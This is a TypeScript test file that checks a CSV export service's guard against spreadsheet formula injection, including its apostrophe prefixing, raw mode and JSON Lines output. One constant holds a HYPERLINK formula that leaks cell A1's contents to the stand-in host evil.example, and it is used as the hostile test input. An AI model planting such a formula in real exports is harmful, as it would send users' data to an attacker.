/**
 * CSV formula injection (issue 11 §13): text a spreadsheet would evaluate — here a provider-controlled reported
 * version, the definition's name and a dimension label — gets a leading apostrophe by default, numbers stay numbers,
 * the manifest says so, `raw` writes every cell exactly, and JSON Lines is always exact.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { guardCell } from '../../src/main/core/export/csv';
import type { ExportManifest } from '../../src/main/core/export/manifest';
import { ExportService } from '../../src/main/core/export/service';
import { createMemoryLogger } from '../helpers/memory';
import { GPT, makeExportDb, type ExportDb } from '../helpers/export-fixture';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

describe('the CSV formula guard', () => {
  let t: ExportDb;
  let service: ExportService;
  beforeEach(async () => {
    t = await makeExportDb();
    service = new ExportService({
      sqlite: t.database.sqlite,
      databasePath: t.database.path,
      logger: createMemoryLogger().logger,
    });
  });
  afterEach(() => t.cleanup());

  /** One run of two answers whose provider, definition and dimension texts start like formulas. */
  function hostileRun(): string {
    const runId = t.newRun([GPT]);
    while (t.completeNext()) {
      /* every job answers */
    }
    const db = t.database.sqlite;
    db.prepare(`UPDATE transcripts SET reported_model_version = ?, score = -2 WHERE run_id = ?`).run(EVIL, runId);
    db.prepare(`UPDATE definitions SET name = ? WHERE id = ?`).run('=1+1 dilemma', t.definitionId);
    db.prepare(
      `UPDATE scenarios SET dimensions_json = json_set(dimensions_json, '$.Stakes.label', '-2 worse', '$.Stakes.score', -1)
        WHERE definition_id = ?`,
    ).run(t.definitionId);
    return runId;
  }

  const rows = (path: string) =>
    parse(readFileSync(path), { bom: true, columns: true, cast: false }) as Record<string, string>[];

  it('neutralises text cells by default, leaves numbers alone and records it in the manifest', async () => {
    const runId = hostileRun();
    const result = await service.exportToFile({
      runId,
      path: join(t.dir, 'g.csv'),
      format: 'csv',
      includeFailures: false,
    });
    const records = rows(result.path);
    expect(records.length).toBeGreaterThan(0);
    for (const record of records) {
      expect(record.reported_model_version).toBe(`'${EVIL}`);
      expect(record.definition_name).toBe(`'=1+1 dilemma`);
      expect(record.dim_Stakes_label).toBe(`'-2 worse`);
      // Numeric columns: a negative number stays a number.
      expect(record.score).toBe('-2');
      expect(record.dim_Stakes).toBe('-1');
    }
    const manifest = JSON.parse(readFileSync(result.manifestPath, 'utf8')) as ExportManifest;
    expect(manifest.formulaGuard).toBe(true);
  });

  it('writes cells exactly with raw, and JSON Lines is always exact', async () => {
    const runId = hostileRun();
    const raw = await service.exportToFile({
      runId,
      path: join(t.dir, 'r.csv'),
      format: 'csv',
      includeFailures: false,
      raw: true,
    });
    for (const record of rows(raw.path)) {
      expect(record.reported_model_version).toBe(EVIL);
      expect(record.dim_Stakes_label).toBe('-2 worse');
    }
    expect((JSON.parse(readFileSync(raw.manifestPath, 'utf8')) as ExportManifest).formulaGuard).toBe(false);

    const jsonl = await service.exportToFile({
      runId,
      path: join(t.dir, 'j.jsonl'),
      format: 'jsonl',
      includeFailures: false,
    });
    const lines = readFileSync(jsonl.path, 'utf8')
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines[0]).toMatchObject({ reported_model_version: EVIL, definition_name: '=1+1 dilemma' });
    expect((JSON.parse(readFileSync(jsonl.manifestPath, 'utf8')) as ExportManifest).formulaGuard).toBe(false);
  });

  it('guards every formula start and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(guardCell(`${start}x`)).toBe(`'${start}x`);
    expect(guardCell('plain')).toBe('plain');
    expect(guardCell(-3)).toBe(-3);
    expect(guardCell(null)).toBe(null);
  });
});
